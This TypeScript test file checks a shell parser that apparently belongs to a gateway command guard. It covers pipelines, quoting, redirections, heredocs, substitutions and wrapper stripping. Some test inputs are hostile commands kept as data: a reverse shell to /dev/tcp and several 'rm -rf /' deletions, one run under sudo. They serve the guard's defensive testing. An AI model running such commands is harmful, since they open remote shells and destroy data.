import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { parseShell } from '../../../../gateway/response/guard/shell-parse.js';
import { toCommand } from '../../../../gateway/response/guard/command.js';
import type { Script } from '../../../../gateway/response/guard/shell-ast.js';

const argvs = (s: Script) => s.pipelines.map((p) => p.commands.map((c) => c.argv.map((w) => w.text)));

test('operators split commands and pipelines', () => {
  assert.deepEqual(argvs(parseShell('a 1 && b | c; d || e & f\ng |& h')), [
    [['a', '1']], [['b'], ['c']], [['d']], [['e']], [['f']], [['g'], ['h']],
  ]);
});

test('quote removal: single, double, ANSI-C, escapes, and $VAR kept as written', () => {
  const [[cmd]] = argvs(parseShell(`echo 'a b' "c \\"d\\" $HOME" $'x\\ty' e\\ f ~/x`));
  assert.deepEqual(cmd, ['echo', 'a b', 'c "d" $HOME', 'x\ty', 'e f', '~/x']);
});

test('redirections with fds, dups and targets', () => {
  const [p] = parseShell('bash -i >& /dev/tcp/h/1 0>&1 2>/dev/null <in').pipelines;
  const c = p!.commands[0]!;
  assert.deepEqual(c.argv.map((w) => w.text), ['bash', '-i']);
  assert.deepEqual(c.redirects.map((r) => [r.fd ?? '', r.op, r.target?.text]), [
    ['', '>&', '/dev/tcp/h/1'], ['0', '>&', '1'], ['2', '>', '/dev/null'], ['', '<', 'in'],
  ]);
});

test('heredoc bodies are captured, not parsed as commands', () => {
  const s = parseShell("cat <<'EOF' > out.sh\nrm -rf /\nEOF\necho next");
  assert.deepEqual(argvs(s), [[['cat']], [['echo', 'next']]]);
  assert.equal(s.pipelines[0]!.commands[0]!.redirects[0]!.heredoc, 'rm -rf /');
});

test('<<- strips leading tabs from the delimiter line', () => {
  const s = parseShell('cat <<-END\n\tbody\n\tEND\nls');
  assert.equal(s.pipelines[0]!.commands[0]!.redirects[0]!.heredoc, '\tbody');
  assert.deepEqual(argvs(s)[1], [['ls']]);
});

test('the Claude Code commit idiom: heredoc inside $( ) inside double quotes, with a stray ) in the body', () => {
  const s = parseShell(`git commit -m "$(cat <<'EOF'\nfix: things\n1) rm -rf / is bad\nEOF\n)" && git push`);
  assert.deepEqual(argvs(s).map((p) => p[0]![0]), ['git', 'git']);
  const sub = s.pipelines[0]!.commands[0]!.argv[3]!.subs[0]!;
  assert.deepEqual(argvs(sub), [[['cat']]]);
  assert.equal(sub.pipelines[0]!.commands[0]!.redirects[0]!.heredoc, 'fix: things\n1) rm -rf / is bad');
});

test('substitutions, backticks, process substitution and subshells nest', () => {
  const s = parseShell('echo $(date) `whoami` <(ls) && (cd x && make) ; { a; }');
  const words = s.pipelines[0]!.commands[0]!.argv;
  assert.deepEqual(words.map((w) => w.subs.length), [0, 1, 1, 1]);
  assert.deepEqual(argvs(words[2]!.subs[0]!), [[['whoami']]]);
  const group = s.pipelines[1]!.commands[0]!.group!;
  assert.deepEqual(argvs(group), [[['cd', 'x']], [['make']]]);
});

test('comments and line continuations', () => {
  assert.deepEqual(argvs(parseShell('# rm -rf /\nls \\\n  -la # trailing')), [[['ls', '-la']]]);
});

test('wrappers and assignments are peeled off', () => {
  const names = ['sudo -u root -E /bin/rm -rf /', 'env -i FOO=1 nohup nice -n 5 rm x', 'timeout -s KILL 10 rm x', 'A=1 B=2 rm x', 'xargs -0 -n 1 rm', 'if rm x; then :; fi']
    .map((t) => toCommand(parseShell(t).pipelines[0]!.commands[0]!).name);
  assert.deepEqual(names, ['rm', 'rm', 'rm', 'rm', 'rm', 'rm']);
});

test('offsets index the parsed text', () => {
  const text = 'ls; sudo rm -rf /tmp/x';
  const c = parseShell(text).pipelines[1]!.commands[0]!;
  assert.equal(text.slice(c.start, c.end), 'sudo rm -rf /tmp/x');
  assert.equal(text.slice(c.argv[3]!.start, c.argv[3]!.end), '/tmp/x');
});

test('property: never throws, and every span lies inside the text', () => {
  const shellish = fc.stringMatching(/^[a-z $()`'"\\|&;<>{}#\n~=-]{0,80}$/);
  fc.assert(fc.property(fc.oneof(fc.string(), shellish), (text) => {
    const visit = (s: Script): void => {
      for (const p of s.pipelines) for (const c of p.commands) {
        assert.ok(c.start >= 0 && c.end <= text.length && c.start <= c.end);
        for (const w of c.argv) { assert.ok(w.start >= 0 && w.end <= text.length); w.subs.forEach(visit); }
        if (c.group) visit(c.group);
      }
    };
    visit(parseShell(text));
  }), { numRuns: 2000 });
});

test('pathological nesting and size finish quickly (generous bound)', () => {
  for (const text of ['$('.repeat(50_000), '"'.repeat(100_001), '`'.repeat(100_001), '<<EOF\n'.repeat(20_000), "'".repeat(100_001), '(('.repeat(50_000)]) {
    const t = performance.now();
    parseShell(text);
    assert.ok(performance.now() - t < 2000, JSON.stringify(text.slice(0, 8)));
  }
});
